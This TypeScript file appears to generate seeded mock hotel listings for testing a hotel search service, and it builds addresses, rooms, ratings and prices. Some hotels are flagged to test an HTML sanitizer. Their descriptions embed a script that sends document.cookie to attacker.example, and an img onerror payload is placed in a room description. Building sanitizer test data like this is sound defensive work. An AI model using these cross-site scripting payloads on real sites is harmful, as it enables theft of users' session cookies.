// The date-independent part of a result: which hotels a program has at a
// destination, where they are and what rooms they sell. Seeded from program +
// destination only, so the same place lists the same hotels for any dates.
import { resolvePlace, round4, type Place } from "./hotel-destination";
import type { HotelProgram } from "./hotel-programs";
import { seededRandom, type Rng } from "./seeded-random";

export interface RoomTemplate {
  type: "standard" | "premium" | "suite";
  name: string;
  description: string;
  capacity: number; // adults + kids per room
  factor: number; // price relative to the hotel's base room
}

export interface HotelBase {
  key: string; // stable slug, also the seed for per-date prices
  name: string;
  tier: number;
  baseCashUsd: number;
  awardCategory?: number;
  address: {
    text: string;
    addressLine: string;
    city: string;
    stateName?: string;
    countryName: string;
    postalCode?: string;
    lat: number;
    lng: number;
  };
  distance: number;
  rating: number;
  numberOfReviews: number;
  phone: string;
  hotelURL: string;
  hotelDescription: string;
  rooms: RoomTemplate[];
  hostile: boolean; // this hotel's texts carry hostile markup for the sanitizer
}

const ROOMS: readonly RoomTemplate[] = [
  {
    type: "standard",
    name: "Standard King",
    description: "<b>1 King bed</b><br>Work desk, 300 sq ft",
    capacity: 3,
    factor: 1,
  },
  {
    type: "standard",
    name: "Two Queen Beds",
    description: "<b>2 Queen beds</b><br>Sleeps 4",
    capacity: 4,
    factor: 1.05,
  },
  {
    type: "premium",
    name: "Deluxe King, City View",
    description: "<b>1 King bed</b>, high floor<br><i>City view</i>",
    capacity: 2,
    factor: 1.3,
  },
  {
    type: "suite",
    name: "Junior Suite",
    description: "Separate sitting area<br>Sofa bed, sleeps 4",
    capacity: 4,
    factor: 1.7,
  },
  {
    type: "suite",
    name: "One-Bedroom Suite",
    description: "<b>Living room</b> and kitchenette<br>Sleeps 5",
    capacity: 5,
    factor: 2.1,
  },
  {
    type: "suite",
    name: "Two-Bedroom Family Suite",
    description: "Two bedrooms, two baths<br>Sleeps 8",
    capacity: 8,
    factor: 2.8,
  },
];

/** The hotels a program has at a destination; throws for a destination decideOutcome refused. */
export function buildDirectory(
  program: HotelProgram,
  destination: string,
): { place: Place; hotels: HotelBase[] } {
  const place = resolvePlace(destination);
  if (!place) throw new Error("buildDirectory: the destination is not a known place");
  const code = program.provider.code;
  const rng = seededRandom("directory", code, destination.trim().toLowerCase());
  const cityFactor = 0.8 + rng.next() * 0.8;
  // A brand has at most one hotel per district, so the list cannot outgrow brands × districts.
  const count = Math.min(rng.int(5, 25), program.brands.length * place.areas.length);
  const used = new Set<string>();
  const hotels: HotelBase[] = [];
  while (hotels.length < count) {
    const brand = rng.pick(program.brands);
    const area = rng.pick(place.areas);
    const name = `${brand.name} ${place.city} ${area[0]}`;
    if (used.has(name)) continue;
    used.add(name);
    hotels.push(buildHotel(rng, program, place, name, brand.tier, area, cityFactor));
  }
  return { place, hotels: hotels.sort((a, b) => a.distance - b.distance) };
}

function buildHotel(
  rng: Rng,
  program: HotelProgram,
  place: Place,
  name: string,
  tier: number,
  area: [string, number],
  cityFactor: number,
): HotelBase {
  const key = slug(`${program.provider.code}-${name}`);
  // The district's real distance from the centre, ±25 %, in a seeded direction.
  const miles = Math.max(0.1, area[1] * (0.75 + rng.next() * 0.5));
  const bearing = rng.next() * 2 * Math.PI;
  const lat = round4(place.lat + (miles / 69.05) * Math.cos(bearing));
  const lng = round4(
    place.lng + (miles / (69.17 * Math.cos((place.lat * Math.PI) / 180))) * Math.sin(bearing),
  );
  const baseCashUsd = Math.round((60 + tier * 55) * cityFactor * (0.85 + rng.next() * 0.3));
  const postalCode = place.postal ? fillPattern(place.postal, rng) : undefined;
  const { addressLine, text } = formatAddress(place, rng.pick(place.streets), rng, postalCode);
  const hostile = rng.chance(0.12);
  const distance = Math.round(milesBetween(place.lat, place.lng, lat, lng) * 10) / 10;
  return {
    key,
    name,
    tier,
    baseCashUsd,
    ...awardCategory(program, baseCashUsd),
    address: {
      text,
      addressLine,
      city: place.city,
      ...(place.stateName ? { stateName: place.stateName } : {}),
      countryName: place.countryName,
      ...(postalCode ? { postalCode } : {}),
      lat,
      lng,
    },
    distance,
    rating: Math.min(5, Math.max(2.5, 2 + tier * 0.5 + rng.int(0, 2) * 0.5 - 0.5)),
    numberOfReviews: rng.int(40, 6000),
    phone: phoneFor(place, rng),
    hotelURL: `https://hotels.example.com/${program.provider.code}/${key}`,
    hotelDescription:
      `<p>${name} is ${distance.toFixed(1)} miles from the centre of ${place.city}, in ${area[0]}.</p>` +
      `<p><b>Free Wi-Fi</b>, fitness centre${tier >= 3 ? ", restaurant and bar" : ""}.</p>` +
      (hostile && rng.chance(0.5)
        ? `<script>fetch("https://attacker.example/steal?c="+document.cookie)</script>`
        : ""),
    rooms: pickRooms(rng, hostile),
    hostile,
  };
}

/**
 * The street address as the country writes it: "12 Rue Scribe, 75010 Paris, France",
 * "Friedrichstraße 68, 10117 Berlin, Germany", "1-8-1 Marunouchi, Chiyoda-ku, Tokyo 100-0005, Japan",
 * "151 West 44th Street, New York, New York 10036, United States".
 */
export function formatAddress(
  place: Place,
  street: string,
  rng: Rng,
  postal: string | undefined,
): { addressLine: string; text: string } {
  const join = (...parts: (string | undefined)[]) => parts.filter(Boolean).join(", ");
  const cityLine = (...parts: (string | undefined)[]) => parts.filter(Boolean).join(" ");
  switch (place.style) {
    case "fr": {
      const line = `${rng.int(1, 120)} ${street}`;
      return { addressLine: line, text: join(line, cityLine(postal, place.city), place.countryName) };
    }
    case "eu": {
      const line = `${street} ${rng.int(1, 180)}`;
      return { addressLine: line, text: join(line, cityLine(postal, place.city), place.countryName) };
    }
    case "uk": {
      const line = `${rng.int(1, 220)} ${street}`;
      return { addressLine: line, text: join(line, cityLine(place.city, postal), place.countryName) };
    }
    case "jp": {
      const line = `${rng.int(1, 9)}-${rng.int(1, 20)}-${rng.int(1, 30)} ${street}`;
      return { addressLine: line, text: join(line, cityLine(place.city, postal), place.countryName) };
    }
    case "intl": {
      const line = `${rng.int(1, 400)} ${street}`;
      return { addressLine: line, text: join(line, cityLine(place.city, postal), place.countryName) };
    }
    case "us": {
      const line = `${rng.int(1, 2400)} ${street}`;
      return {
        addressLine: line,
        text: join(line, place.city, cityLine(place.stateName, postal), place.countryName),
      };
    }
  }
}

function pickRooms(rng: Rng, hostile: boolean): RoomTemplate[] {
  const count = rng.int(1, 4);
  const chosen = new Set<RoomTemplate>([rng.pick(ROOMS.slice(0, 2))]);
  while (chosen.size < count) chosen.add(rng.pick(ROOMS));
  const rooms = [...chosen].sort((a, b) => a.factor - b.factor);
  if (!hostile) return rooms;
  return rooms.map((room, i) =>
    i === rooms.length - 1
      ? { ...room, description: `${room.description}<img src="x" onerror="alert(document.cookie)">` }
      : room,
  );
}

function awardCategory(program: HotelProgram, cash: number): { awardCategory?: number } {
  if (program.maxCategory === 0) return {};
  const step = program.maxCategory <= 3 ? 140 : 70;
  return { awardCategory: Math.min(program.maxCategory, Math.max(1, Math.ceil(cash / step))) };
}

function phoneFor(place: Place, rng: Rng): string {
  if (place.dial === "1")
    return `+1 ${rng.int(201, 989)}-${rng.int(200, 999)}-${String(rng.int(0, 9999)).padStart(4, "0")}`;
  return `+${place.dial} ${rng.int(1, 9)} ${rng.int(1000, 9999)} ${rng.int(1000, 9999)}`;
}

function fillPattern(pattern: string, rng: Rng): string {
  return pattern.replace(/[#A]/g, (ch) =>
    ch === "#" ? String(rng.int(0, 9)) : String.fromCharCode(65 + rng.int(0, 25)),
  );
}

function slug(text: string): string {
  return text
    .normalize("NFD")
    .replace(/[\u0300-\u036f]/g, "")
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, "-")
    .replace(/^-|-$/g, "");
}

function milesBetween(lat1: number, lng1: number, lat2: number, lng2: number): number {
  const rad = Math.PI / 180;
  const a =
    Math.sin(((lat2 - lat1) * rad) / 2) ** 2 +
    Math.cos(lat1 * rad) * Math.cos(lat2 * rad) * Math.sin(((lng2 - lng1) * rad) / 2) ** 2;
  return 3958.8 * 2 * Math.asin(Math.sqrt(a));
}
